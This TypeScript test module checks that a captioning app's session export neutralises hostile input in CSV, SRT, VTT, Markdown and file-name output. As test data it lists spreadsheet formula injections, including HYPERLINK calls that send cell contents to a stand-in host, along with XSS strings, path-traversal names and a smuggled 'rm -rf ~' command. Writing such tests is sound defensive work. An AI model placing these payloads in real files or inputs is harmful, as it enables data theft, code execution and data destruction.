import type { BridgeClient } from '../../support/app/bridge-client.ts'
import { sessionFile } from '../../support/sessions/session-file.ts'
import { type Attack, area, attack, judge } from '../attack.ts'
import { AttackedHost } from '../support/attacked-host.ts'
import { importSession, invoke, inWords } from '../support/page-calls.ts'

interface Exported {
  readonly name: string
  readonly text: string
}

async function exported(
  page: BridgeClient,
  { title, said }: { readonly title?: string; readonly said?: string },
  format: string,
): Promise<Exported> {
  const [caption] = sessionFile(1).captions
  const session = sessionFile(1, {
    ...(title !== undefined && { title }),
    gaps: [],
    captions: [{ ...caption, source: said ?? 'Hello.', targets: { de: said ?? 'Hallo.' } }] as never,
  })
  const taken = await importSession(page, session)
  if (!taken.ok) throw new Error(`not taken in: ${inWords(taken)}`)
  const { id } = taken.value as { id: string }
  const answer = await invoke(page, 'session.export', { id, format })
  if (!answer.ok) throw new Error(`not given out: ${inWords(answer)}`)
  return answer.value as Exported
}

/** Spoken text that the program opening the file must not interpret as anything but text. */
const spoken = (format: string, said: string, isHarmless: (text: string) => boolean): Attack<BridgeClient> =>
  attack(`${JSON.stringify(said.slice(0, 40))} in ${format}`, async (page) => {
    const { text } = await exported(page, { said }, format)
    return judge(isHarmless(text), JSON.stringify(text.slice(-160)))
  })

const titled = (title: string): Attack<BridgeClient> =>
  attack(`the title ${JSON.stringify(title.slice(0, 40))} as a file name`, async (page) => {
    const { name } = await exported(page, { title }, 'txt')
    const isSafe =
      /^[^.\p{Cc}/\\:*?"<>|\u202a-\u202e\u2066-\u2069][^\p{Cc}/\\:*?"<>|\u202a-\u202e\u2066-\u2069]*$/u.test(
        name,
      )
    const isDevice = /^(con|prn|aux|nul|com\d|lpt\d)\./i.test(name)
    return judge(isSafe && !isDevice && Buffer.byteLength(name) <= 255, name)
  })

const formulas = [
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd',
  '=HYPERLINK("https://evil.test?"&A1,"x")',
  '＝1+1',
  'x;=HYPERLINK("https://evil.test","x")',
  'x\t@SUM(1+1)',
  'x|-1+1',
  'x\n+1+1',
  'x;"=1+1"',
]
/** The cells of a file, wherever a spreadsheet of any country splits its rows. */
const cellsOf = (csv: string): string[] =>
  [',', ';', '\t', '|'].flatMap((separator) =>
    [
      ...csv.matchAll(new RegExp(`"((?:[^"]|"")*)"(?=[${separator}\\r\\n]|$)|([^${separator}\\r\\n]+)`, 'g')),
    ].map(([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain),
  )

export const exportsArea = area<BridgeClient>({
  name: 'exports',
  open: async (defer) => (await AttackedHost.start(defer)).page(),
  control: async (page) => {
    const { text } = await exported(page, { said: 'Good morning.' }, 'txt')
    if (!text.includes('Good morning.')) throw new Error('what was said is not given out')
  },
  attacks: [
    ...formulas.map((formula) =>
      spoken('csv', formula, (text) => cellsOf(text).every((cell) => !/^"?[=+@＝-]/u.test(cell))),
    ),
    ...['<img src=x onerror=alert(1)>', '<font color="red">', '</b>', '{\\an8}', '{\\fs500}'].map((tag) =>
      spoken('srt', tag, (text) => !/<[a-z/]|\{\\/i.test(text)),
    ),
    spoken(
      'srt',
      'a\n\n2\n00:00:00,000 --> 00:00:09,000\nb',
      (text) => (text.match(/-->/g) ?? []).length === 1,
    ),
    ...['<c.red>', '<script>alert(1)</script>', '&lt;b&gt;'].map((tag) =>
      spoken('vtt', tag, (text) => !/<(?!\d)|&(?!amp;|lt;|gt;)/.test(text.replace(/-->/g, ''))),
    ),
    spoken('vtt', 'a\n\n00:00.000 --> 00:09.000\nb', (text) => (text.match(/-->/g) ?? []).length === 1),
    spoken('vtt', 'NOTE\n\nSTYLE\n::cue{}', (text) => !/^(NOTE|STYLE)$/m.test(text)),
    ...[
      '<SCRIPT SRC=//X.YZ></SCRIPT>',
      '[x](javascript:alert(1))',
      '![x](https://evil.test/x.png)',
      '`x`',
    ].map((mark) => spoken('md', mark, (text) => !/(?<!\\)[<[`]/.test(text.replace(/\*\*\w+\*\*/g, '')))),
    ...[
      '../../etc/passwd',
      '..\\..\\windows\\system32',
      '/etc/passwd',
      'C:\\boot.ini',
      'con',
      'NUL.',
      'aux',
      '.bashrc',
      'a\0b',
      'a\r\nContent-Type: text/html',
      '"; rm -rf ~; "',
      '\u202Etxt.exe',
      '...',
      '😀'.repeat(190),
      '<script>',
    ].map(titled),
  ],
})
